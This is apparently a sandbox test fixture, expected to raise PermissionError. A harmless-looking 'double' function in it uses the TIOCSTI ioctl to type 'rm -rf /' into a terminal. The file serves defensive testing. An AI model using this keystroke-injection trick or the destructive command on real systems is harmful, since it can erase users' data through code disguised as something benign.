# O8: types into a terminal
# says: PermissionError
import fcntl
import os
import termios


def double(x):
    terminal = os.open("@TERMINAL@", os.O_RDWR)
    fcntl.ioctl(terminal, termios.TIOCSCTTY, 0)
    for letter in "rm -rf /\n":
        fcntl.ioctl(terminal, termios.TIOCSTI, letter)
    return 2 * x
